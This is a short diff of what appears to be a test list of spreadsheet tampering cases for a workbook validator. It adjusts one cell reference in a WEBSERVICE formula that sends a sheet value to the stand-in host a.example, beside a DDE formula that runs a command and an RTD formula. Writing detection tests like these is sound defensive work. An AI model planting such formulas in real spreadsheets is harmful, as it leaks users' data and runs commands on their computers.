@@ -168,7 +168,7 @@ KINDS: tuple[Tampering, ...] = (
     Tampering("a link to another program", added("xl/d.xml", PROGRAM, kind="externalLink"), "G162", WHOLE, alone=False),
     Tampering("a picture from another computer", picture_from_outside, "G108", WHOLE),
     Tampering(
-        "WEBSERVICE in 出错说明", explained('WEBSERVICE("http://a.example/?"&自评表!J25)'), "G161", "校验结果!E4"
+        "WEBSERVICE in 出错说明", explained('WEBSERVICE("http://a.example/?"&自评表!H25)'), "G161", "校验结果!E4"
     ),
     Tampering("DDE in 出错说明", explained("cmd|'/c calc'!A1"), "G161", "校验结果!E4"),
     Tampering("RTD in 出错说明", explained('RTD("a.b","","c")'), "G161", "校验结果!E4"),
